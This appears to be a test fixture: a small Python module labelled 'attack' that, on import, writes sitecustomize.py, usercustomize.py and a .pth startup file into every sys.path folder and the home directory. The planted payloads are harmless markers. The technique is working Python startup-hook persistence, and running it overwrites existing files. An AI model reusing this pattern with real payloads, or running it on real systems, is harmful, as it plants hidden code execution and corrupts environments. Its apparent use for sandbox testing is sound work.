"""attack: writes sitecustomize.py, usercustomize.py and .pth files into every path on sys.path"""

import os
import sys

import torch

def _plant():
    for folder in sys.path + [os.path.expanduser("~")]:
        for name, text in (("sitecustomize.py", "import os\n"), ("usercustomize.py", "import os\n"),
                           ("zz_attack.pth", "import os; os.environ['ATTACK'] = '1'\n")):
            try:
                with open(os.path.join(folder or ".", name), "w") as handle:
                    handle.write(text)
            except OSError:
                pass


_plant()


def attack():
    return None
